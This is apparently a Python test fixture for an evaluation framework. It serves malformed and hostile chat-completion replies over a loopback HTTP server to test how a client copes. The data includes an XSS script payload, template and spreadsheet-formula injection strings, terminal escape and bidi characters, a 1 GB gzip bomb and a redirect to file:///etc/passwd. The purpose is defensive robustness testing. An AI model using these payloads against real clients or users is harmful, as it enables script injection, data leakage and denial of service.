"""What a model's server may reply out of malice or by mistake, byte by byte, and how a run with it ends."""

import contextlib
import gzip
import json
import socket
import threading
import time
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any, Literal

from evaluator.trace import Fault

Ending = Literal["answered", "error", "timeout", "call_limit", "gone"]
"""How a run ends; of one that is `gone` nothing is recorded, since the server was out of reach or broke off."""

Bytes = Iterable[bytes]

ANSWER = "Hello."
UNSEEN = "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x00 \x9b2J \u202eturned\u202c \ufffe \u200f"
"""Escape codes of terminals, a null character, and marks that turn text around."""
MARKUP = "</pre></script><script>window.pwned=1</script><img src=x onerror=pwned()>{{ 7 * 7 }}"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"here")'
SURROGATE = "half \ud800 of \udfff a pair"
DEEP = 100_000


@dataclass(frozen=True)
class Kind:
    """A kind of reply: the bytes of it, and how a run ends whose first call gets it.

    `fault` is whose fault that is, where it is not the framework's or the model's. `heavy` ones take tens of
    megabytes, `endless` ones end with the time of the run. `streams` are asked for by a framework that streams.
    """

    name: str
    reply: Callable[[], Bytes]
    ended: Ending = "answered"
    fault: Fault | None = None
    heavy: bool = False
    endless: bool = False
    streams: bool = False


# --- how replies are written -----------------------------------------------------------------------


def http(body: bytes, status: str = "200 OK", kind: str = "application/json", *headers: str) -> Bytes:
    """A whole reply."""
    lines = [f"HTTP/1.1 {status}", f"Content-Type: {kind}", f"Content-Length: {len(body)}", *headers]
    return ["\r\n".join([*lines, "Connection: close", "", ""]).encode("latin-1") + body]


def as_json(value: Any) -> bytes:
    return json.dumps(value).encode()


def completion(content: Any = ANSWER, **fields: Any) -> dict[str, Any]:
    """A chat completion; `fields` are of its message."""
    message = {"role": "assistant", "content": content, **fields}
    return {
        "id": "1",
        "object": "chat.completion",
        "created": 0,
        "model": "m",
        "choices": [{"index": 0, "message": message, "finish_reason": "tool_calls" if fields else "stop"}],
        "usage": {"prompt_tokens": 9, "completion_tokens": 3, "total_tokens": 12},
    }


def call(id: Any = "c", name: Any = "get_order", arguments: Any = '{"order_id":"O-5003"}') -> dict[str, Any]:
    return {"id": id, "type": "function", "function": {"name": name, "arguments": arguments}}


def said(content: Any = ANSWER, **fields: Any) -> Callable[[], Bytes]:
    """A plain reply with this content."""
    return lambda: http(as_json(completion(content, **fields)))


def asks(*calls: Any) -> Callable[[], Bytes]:
    """A plain reply that asks for these calls."""
    return said(None, tool_calls=list(calls))


def body(value: Any, **fields: Any) -> Callable[[], Bytes]:
    """A plain reply of this JSON, or of these bytes; `fields` change the completion that it is otherwise."""
    if value is None:
        value = {**completion(), **fields}
    return lambda: http(value if isinstance(value, bytes) else as_json(value))


def chunk(**delta: Any) -> bytes:
    """One event of a stream."""
    choice = {"index": 0, "delta": delta, "finish_reason": None}
    return b"data: " + as_json({"id": "1", "object": "chat.completion.chunk", "created": 0, "choices": [choice]}) + NEXT


NEXT = b"\n\n"
DONE = b"data: [DONE]\n\n"
END = b'data: {"id":"1","created":0,"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\n'
OPENING = b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n"


def events(*pieces: bytes, opening: bytes = OPENING) -> Callable[[], Bytes]:
    """A stream of these pieces, which ends when the connection is closed."""
    return lambda: [opening, *pieces]


def for_ever(piece: bytes, pause_s: float, opening: bytes = OPENING) -> Callable[[], Bytes]:
    """A reply that goes on with the same piece until nobody reads it any more."""

    def reply() -> Bytes:
        yield opening
        while True:
            yield piece
            time.sleep(pause_s)

    return reply


def silent() -> Bytes:
    """No reply at all, and the connection stays open."""
    while True:
        time.sleep(0.05)
        yield b""


def bomb(megabytes: int) -> Callable[[], Bytes]:
    """A small body that unpacks into many megabytes."""

    def reply() -> Bytes:
        packed = gzip.compress(b" " * 1_000_000)  # of a body in several members, each is unpacked
        return http(packed * megabytes, "200 OK", "application/json", "Content-Encoding: gzip")

    return reply


def deltas(*calls: dict[str, Any]) -> Callable[[], Bytes]:
    """A stream with these pieces of tool calls."""
    return events(*(chunk(tool_calls=[one]) for one in calls), END, DONE)


def with_index(index: Any, **changes: Any) -> dict[str, Any]:
    return {"index": index, **call(**changes)}


def redirect(to: str) -> Callable[[], Bytes]:
    """A redirect; `{port}` is that of the server."""
    return lambda: http(b"", "307 Temporary Redirect", "text/plain", f"Location: {to}")


SERVERS: tuple[Ending, Fault] = ("error", "server")

KINDS = [
    # --- what is said
    Kind("no body", body(b""), *SERVERS),
    Kind("unseen characters", said(UNSEEN)),
    Kind("markup", said(MARKUP)),
    Kind("a formula", said(FORMULA)),
    Kind("half a surrogate pair", said(SURROGATE)),
    Kind("no content", said(None), "answered"),
    Kind("content is a number", said(7), "error"),
    Kind("content is an object", said({"text": "x"}), "error"),
    Kind("content in parts", said([{"type": "text", "text": ANSWER}]), "error"),
    Kind("a refusal in its own field", said(None, refusal=UNSEEN)),
    Kind("50 MB of content", lambda: http(as_json(completion("word " * 10_000_000))), heavy=True),
    Kind("70 MB of content", lambda: http(as_json(completion("word " * 14_000_000))), "gone", heavy=True),
    # --- calls of tools
    Kind("100 calls", asks(*(call(f"c{n}") for n in range(100)))),
    Kind(
        "10,000 calls", asks(*(call(f"c{n}", arguments=f'{{"order_id":"O-{n}"}}') for n in range(10_000))), heavy=True
    ),
    Kind("arguments nested deep", asks(call(arguments='{"order_id":' + "[" * DEEP + "]" * DEEP + "}"))),
    Kind("a name of 1 MB", asks(call(name="n" * 1_000_000))),
    Kind("a name with unseen characters", asks(call(name=UNSEEN))),
    Kind("a name with markup", asks(call(name=MARKUP))),
    Kind("a name that is a formula", asks(call(name=FORMULA))),
    Kind("a name with half a surrogate pair", asks(call(name=SURROGATE)), "error"),
    Kind("no name", asks(call(name=None))),
    Kind("hostile arguments", asks(call(arguments=as_json({"order_id": UNSEEN + MARKUP + FORMULA}).decode()))),
    Kind(
        "half a surrogate pair in arguments", asks(call(arguments=as_json({"order_id": SURROGATE}).decode())), "error"
    ),
    Kind("arguments with NaN and 1e400", asks(call(arguments='{"order_id": [NaN, Infinity, 1e400]}'))),
    Kind("arguments with a huge number", asks(call(arguments='{"order_id": ' + "9" * 4000 + "}"))),
    Kind("arguments are an object", asks(call(arguments={"order_id": "O-5003"}))),
    Kind("arguments are no JSON", asks(call(arguments="{{{"))),
    Kind("one id for two calls", asks(call("c"), call("c", arguments='{"order_id":"O-5002"}'))),
    Kind("no id", asks(call(None))),
    Kind("an id of 1 MB", asks(call("i" * 1_000_000))),
    Kind("calls are null", said(ANSWER, tool_calls=None)),
    Kind("calls are an object", said(ANSWER, tool_calls={"0": call()}), "error"),
    Kind("calls are texts", said(ANSWER, tool_calls=["get_order"]), "error"),
    Kind("a call without a function", asks({"id": "c", "type": "function"}), "error"),
    # --- usage
    Kind("usage is NaN", body(as_json(completion()).replace(b'"prompt_tokens": 9', b'"prompt_tokens": NaN'))),
    Kind("usage is 1e400", body(as_json(completion()).replace(b'"prompt_tokens": 9', b'"prompt_tokens": 1e400'))),
    Kind("usage is negative", body(None, usage={"prompt_tokens": -5, "completion_tokens": -1, "total_tokens": -6})),
    Kind("usage has 400 digits", body(None, usage={"prompt_tokens": 10**400, "completion_tokens": 1})),
    Kind("usage is a text", body(None, usage=UNSEEN)),
    # --- choices
    Kind("no choices", body(None, choices=[]), *SERVERS),
    Kind("choices are null", body(None, choices=None), *SERVERS),
    Kind("choices are an object", body(None, choices={"0": completion()["choices"][0]}), *SERVERS),
    Kind("choices are texts", body(None, choices=["x"]), *SERVERS),
    Kind("a message that is null", body(None, choices=[{"index": 0, "message": None}]), "error"),
    Kind("10,000 choices", body(None, choices=completion()["choices"] * 10_000)),
    Kind("hostile fields", body(None, id=UNSEEN, model=UNSEEN + MARKUP, object=MARKUP, created=MARKUP)),
    Kind("a body nested deep", body(b"[" * DEEP + b"]" * DEEP), *SERVERS),
    Kind("a list", body([completion()]), *SERVERS),
    Kind("a text", body("Hello."), *SERVERS),
    # --- JSON
    Kind("trailing garbage", body(as_json(completion()) + b"}}garbage"), *SERVERS),
    Kind("two values", body(as_json(completion()) * 2), *SERVERS),
    Kind("half a value", body(as_json(completion())[:-20]), *SERVERS),
    Kind(
        "duplicated keys", body(as_json(completion("first")).replace(b'"content"', b'"content": "zeroth", "content"'))
    ),
    Kind("UTF-16", body(json.dumps(completion()).encode("utf-16")), "answered"),
    Kind("a byte order mark", body(b"\xef\xbb\xbf" + as_json(completion()))),
    Kind("bytes that are no text", body(as_json(completion()).replace(b"Hello", b"\xff\xfe\x80")), *SERVERS),
    # --- HTTP
    Kind("an error with status 200", body({"error": {"message": UNSEEN + MARKUP}}), *SERVERS),
    Kind("status 400", lambda: http(as_json({"error": {"message": UNSEEN + MARKUP}}), "400 Bad"), "error"),
    Kind("status 418", lambda: http(UNSEEN.encode(), "418 I'm a teapot", "text/plain"), "error"),
    Kind("status 204", lambda: [b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n"], *SERVERS),
    Kind("status 304", lambda: [b"HTTP/1.1 304 Not Modified\r\nConnection: close\r\n\r\n"], *SERVERS),
    Kind("status 999", lambda: http(b"", "999 What", "text/plain"), "gone"),
    Kind(
        "status 500 with hostile Retry-After",
        lambda: http(b"x", "500 No", "text/plain", "Retry-After: 1e400\x1b[31m"),
        *SERVERS,
    ),
    Kind("early hints before the reply", lambda: [b"HTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\n", *said()()]),
    Kind(
        "another protocol", lambda: [b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\n\r\n", b"\x00" * 100], "gone"
    ),
    Kind("no HTTP", lambda: [b"SSH-2.0-OpenSSH_9.6\r\n"], "gone"),
    Kind("nothing, and closed", lambda: [], "gone"),
    Kind("HTML", lambda: http(MARKUP.encode(), "200 OK", "text/html"), *SERVERS),
    Kind("another content type", lambda: http(as_json(completion()), "200 OK", "application/octet-stream")),
    Kind("no content type", lambda: [b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n" + as_json(completion())]),
    Kind("a length that is too long", lambda: [b"HTTP/1.1 200 OK\r\nContent-Length: 9999\r\n\r\n", b"{}"], "gone"),
    Kind(
        "a length that is too short",
        lambda: [
            b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 20\r\n\r\n" + as_json(completion())
        ],
        "gone",
    ),
    Kind("a length that is no number", lambda: [b"HTTP/1.1 200 OK\r\nContent-Length: many\r\n\r\n{}"], "gone"),
    Kind(
        "chunks of a size that is no number",
        lambda: [b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n"],
        "gone",
    ),
    Kind(
        "a header of 100 kB", lambda: http(as_json(completion()), "200 OK", "application/json", "X: " + "x" * 100_000)
    ),
    Kind(
        "a header of 1 MB",
        lambda: http(as_json(completion()), "200 OK", "application/json", "X: " + "x" * 10**6),
        "gone",
    ),
    Kind(
        "5,000 headers",
        lambda: http(as_json(completion()), "200 OK", "application/json", *(f"X-{n}: x" for n in range(5_000))),
        "gone",
    ),
    Kind(
        "cookies",
        lambda: http(
            as_json(completion()), "200 OK", "application/json", f"Set-Cookie: a={'x' * 4000}; Domain=localhost; Path=/"
        ),
    ),
    Kind("a redirect loop", redirect("/v1/chat/completions"), "gone"),
    Kind("a redirect to another host", redirect("http://localhost:{port}/elsewhere")),
    Kind("a redirect to nowhere", redirect("http://127.0.0.1:9/v1"), "gone"),
    Kind("a redirect to a file", redirect("file:///etc/passwd"), "gone"),
    Kind("a redirect to no URL", redirect("http://[::"), "gone"),
    Kind(
        "packed, as it was not asked to",
        lambda: http(gzip.compress(as_json(completion())), "200 OK", "application/json", "Content-Encoding: gzip"),
    ),
    Kind(
        "said to be packed",
        lambda: http(as_json(completion()), "200 OK", "application/json", "Content-Encoding: gzip"),
        "gone",
    ),
    Kind("a bomb of 1 GB", bomb(1_000), "gone", heavy=True),
    Kind("an event stream, not asked for", events(chunk(content=ANSWER), END, DONE), *SERVERS),
    # --- streams
    Kind("streamed: as it should be", events(chunk(content=ANSWER), END, DONE), streams=True),
    Kind("streamed: not a stream", said(), *SERVERS, streams=True),
    Kind("streamed: no event", events(), *SERVERS, streams=True),
    Kind("streamed: only the end mark", events(DONE), *SERVERS, streams=True),
    Kind(
        "streamed: two end marks, and more",
        events(chunk(content=ANSWER), END, DONE, DONE, chunk(content="x")),
        streams=True,
    ),
    Kind("streamed: broken off", events(chunk(content=ANSWER)), "answered", streams=True),
    Kind("streamed: half an event", events(chunk(content=ANSWER), b'data: {"choi'), "answered", streams=True),
    Kind("streamed: no JSON", events(b"data: {{{\n\n", DONE), *SERVERS, streams=True),
    Kind(
        "streamed: an error within",
        events(chunk(content="x"), b"data: " + as_json({"error": {"message": UNSEEN}}) + NEXT, DONE),
        *SERVERS,
        streams=True,
    ),
    Kind(
        "streamed: carriage returns alone",
        lambda: [OPENING, b"".join([chunk(content=ANSWER), END, DONE]).replace(b"\n", b"\r")],
        streams=True,
    ),
    Kind("streamed: a byte order mark", events(b"\xef\xbb\xbf" + chunk(content=ANSWER), END, DONE), streams=True),
    Kind(
        "streamed: comments between", events(b": hello\n\n", chunk(content=ANSWER), b":\n\n", END, DONE), streams=True
    ),
    Kind("streamed: unseen characters", events(chunk(content=UNSEEN), END, DONE), streams=True),
    Kind(
        "streamed: half a surrogate pair",
        events(chunk(content="\ud83d"), chunk(content="\ude00"), END, DONE),
        streams=True,
    ),
    Kind("streamed: an index of a billion", deltas(with_index(10**9)), streams=True),
    Kind("streamed: a negative index", deltas(with_index(-3)), streams=True),
    Kind("streamed: an index that is a text", deltas(with_index(UNSEEN)), streams=True),
    Kind("streamed: no index", deltas(call()), streams=True),
    Kind(
        "streamed: two ids for one call",
        deltas(with_index(0, arguments=""), with_index(0, id="d", name=None)),
        streams=True,
    ),
    Kind("streamed: one id for two calls", deltas(with_index(0), with_index(1)), streams=True),
    Kind("streamed: 1,000 calls", deltas(*(with_index(n, id=f"c{n}") for n in range(1_000))), heavy=True, streams=True),
    Kind(
        "streamed: choices are null",
        events(b'data: {"choices":null}\n\n', chunk(content=ANSWER), END, DONE),
        "error",
        streams=True,
    ),
    Kind("streamed: one line of 5 MB", events(chunk(content="x" * 5_000_000), END, DONE), heavy=True, streams=True),
    Kind(
        "streamed: 50 MB of content",
        lambda: [OPENING, *(chunk(content="word " * 2_000) for _ in range(5_000)), END, DONE],
        heavy=True,
        streams=True,
    ),
    Kind(
        "streamed: no end, at full speed", for_ever(chunk(content="word " * 2_000), 0), "gone", heavy=True, streams=True
    ),
    # --- without an end
    Kind("silence", silent, "timeout", endless=True),
    Kind("headers without an end", for_ever(b"X-More: x\r\n", 0.01, b"HTTP/1.1 200 OK\r\n"), "timeout", endless=True),
    Kind(
        "a byte at a time",
        for_ever(b" ", 0.05, b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n"),
        "timeout",
        endless=True,
    ),
    Kind(
        "streamed: comments without an end", for_ever(b": still here\n\n", 0.01), "timeout", endless=True, streams=True
    ),
    Kind(
        "streamed: words without an end", for_ever(chunk(content="word "), 0.01), "timeout", endless=True, streams=True
    ),
]


@dataclass
class Server:
    """Where it is, and which kind of reply it gives to a question that is not the name of one."""

    url: str
    kind: Kind = KINDS[0]


@contextlib.contextmanager
def serving(kinds: Sequence[Kind] = KINDS) -> Iterator[Server]:
    """Serve them on the loopback.

    Once the model has been told the result of a tool, it answers, and so it does where it was redirected to.
    """
    by_name = {kind.name: kind for kind in kinds}
    listener = socket.create_server(("127.0.0.1", 0))
    port, closing = listener.getsockname()[1], threading.Event()

    server = Server(f"http://127.0.0.1:{port}/v1")

    def answer(connection: socket.socket) -> None:
        with contextlib.suppress(OSError), connection:
            connection.settimeout(30)
            path, asked = _request(connection)
            messages = json.loads(asked)["messages"]
            question = next(message["content"] for message in messages if message["role"] == "user")
            told = path == "/elsewhere" or any(message["role"] == "tool" for message in messages)
            kind = by_name.get(question, server.kind)
            whole = events(chunk(content=ANSWER), END, DONE) if json.loads(asked).get("stream") else said()
            for piece in whole() if told else kind.reply():
                if closing.is_set():
                    return
                connection.sendall(
                    piece.replace(b"{port}", b"%d" % port) if piece.startswith(b"HTTP/1.1 307") else piece
                )
                if not piece and not _is_open(connection):
                    return

    def accept() -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            threading.Thread(target=answer, args=(connection,), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    try:
        yield server
    finally:
        closing.set()
        listener.close()


def _request(connection: socket.socket) -> tuple[str, bytes]:
    """The path and the body of a request."""
    held = b""
    while b"\r\n\r\n" not in held:
        held += _received(connection)
    head, _, held = held.partition(b"\r\n\r\n")
    lines = (line.partition(b":") for line in head.lower().split(b"\r\n"))
    length = next(int(value) for name, _, value in lines if name == b"content-length")
    pieces, so_far = [held], len(held)
    while so_far < length:
        pieces.append(_received(connection))
        so_far += len(pieces[-1])
    return head.split(b" ")[1].decode(), b"".join(pieces)


def _received(connection: socket.socket) -> bytes:
    piece = connection.recv(1 << 20)
    if not piece:
        raise OSError("closed")
    return piece


def _is_open(connection: socket.socket) -> bool:
    try:
        return connection.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) != b""
    except BlockingIOError:
        return True
